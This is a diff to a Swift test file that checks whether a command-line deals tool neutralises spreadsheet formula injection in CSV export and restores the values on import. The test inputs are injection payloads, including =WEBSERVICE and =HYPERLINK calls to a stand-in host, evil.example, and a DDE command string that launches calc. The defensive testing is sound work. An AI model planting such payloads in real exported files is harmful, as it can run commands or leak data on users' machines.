@@ -6,8 +6,8 @@ import Testing
 struct CLIOutputSafetyTests {
     /// Cells a spreadsheet would run as formulas get a leading `'`; numbers and phone
     /// numbers stay as they are; the import takes exactly that `'` away again.
-    @Test func formulaCellsAreNeutralisedAndComeBackExactly() throws {
-        let cli = CLI()
+    @Test(arguments: StoreEngine.allCases) func formulaCellsAreNeutralisedAndComeBackExactly(_ engine: StoreEngine) throws {
+        let cli = try CLI(engine: engine)
         cli.ok(["opp", "add", "=HYPERLINK(\"http://evil.example\",\"Click\")", "--customer", "+cmd|' /C calc'!A0",
                 "--contact", "@SUM(1+1)", "--phone", "+1 555 0100", "--salesperson=-2+3", "--notes", "'=already quoted"])
         cli.ok(["opp", "add", "=WEBSERVICE(\"http://evil.example\")", "--customer=-12.50", "--contact", "''=x",
@@ -27,10 +27,10 @@ struct CLIOutputSafetyTests {
         }
         let file = cli.path("deals.csv")
         try csv.write(toFile: file, atomically: true, encoding: .utf8)
-        let fresh = cli.path("fresh.sqlite")
-        #expect(cli.run(["import", file, "--db", fresh], database: false).status == 0)
-        #expect(cli.run(["export", "--db", fresh], database: false).stdout == csv)
-        let titles = cli.run(["opp", "list", "--json", "--db", fresh], database: false).stdout
+        let fresh = try cli.newStore("fresh")
+        #expect(cli.run(["import", file, "--db", fresh.location], database: false).status == 0)
+        #expect(cli.run(["export", "--db", fresh.location], database: false).stdout == csv)
+        let titles = cli.run(["opp", "list", "--json", "--db", fresh.location], database: false).stdout
         let deals = try #require(try JSONSerialization.jsonObject(with: Data(titles.utf8)) as? [[String: Any]])
         let first = try #require(deals.first { ($0["title"] as? String)?.hasPrefix("=HYPERLINK") == true })
         #expect(first["customer"] as? String == "+cmd|' /C calc'!A0" && first["salesperson"] as? String == "-2+3")
@@ -41,6 +41,7 @@ struct CLIOutputSafetyTests {
         #expect(second["tags"] as? [String] == ["=1+1", "plain"] && second["salesperson"] as? String == "'plain")
     }
 
+    /// SQLite only: the text is planted through SQLite, behind the program's back.
     /// Text planted by another SQLite tool behind the program's back (the program never
     /// stores it) shows inert on every output: no ESC, C0 or C1 control, no bidirectional
     /// override; JSON escapes it.
